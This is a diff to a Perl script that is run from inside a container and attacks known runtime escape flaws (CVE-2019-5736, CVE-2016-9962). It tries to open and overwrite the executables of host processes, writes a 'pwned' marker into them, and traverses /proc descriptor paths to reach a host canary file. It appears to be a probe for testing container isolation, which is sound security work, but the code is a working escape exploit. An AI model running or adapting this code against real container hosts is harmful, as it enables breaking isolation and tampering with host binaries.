@@ -1,7 +1,8 @@
 # From inside a container: goes for the executable of every process that is not of the image, as
 # CVE-2019-5736 did, by every way that writes to a file or makes its mount writable. Also tries to
 # trace such processes and to read their descriptors (CVE-2016-9962).
-# usage: perl attack-exe.pl [userns]     until /tmp/stop is there
+# usage: perl attack-exe.pl plain|userns [CANARY]     until /tmp/stop is there
+# CANARY is the path of a file of the host, which is looked for from every descriptor.
 use strict;
 use warnings;
 use Fcntl;
@@ -12,12 +13,15 @@ if (($ARGV[0] // '') eq 'userns') {
     print syscall(272, 0x10020000) == 0 ? "unshared\n" : "unshare: $!\n";
 }
 my ($seen, %told) = (0);
+my %ours = map { join(' ', (stat $_)[0, 1]) => 1 } '/bin/true', '/probe', $^X;
 sub tell_once { print "$_[0]\n" unless $told{$_[0]}++ }
 
 sub write_to {
     my ($path, $what) = @_;
-    for my $how (O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC) {
+    for my $how (O_WRONLY, O_RDWR, O_WRONLY | O_APPEND) {
         next unless sysopen(my $file, $path, $how);
+        # It has become the image's own program meanwhile.
+        next if $ours{join ' ', (stat $file)[0, 1]};
         syswrite($file, 'pwned');
         tell_once("OPENED $what");
     }
@@ -72,6 +76,10 @@ until (-e '/tmp/stop') {
         if (opendir(my $fds, "/proc/$pid/fd")) {
             for my $fd (readdir $fds) {
                 my $target = readlink("/proc/$pid/fd/$fd") // next;
+                for my $way ('', '../' x 12, '1/root/', '1/cwd/') {
+                    open(my $file, '<', "/proc/$pid/fd/$fd/$way" . ($ARGV[1] // last)) or next;
+                    tell_once("ESCAPED by $target/$way");
+                }
                 $target =~ s/\d+/N/g;
                 tell_once("FD $target");
             }
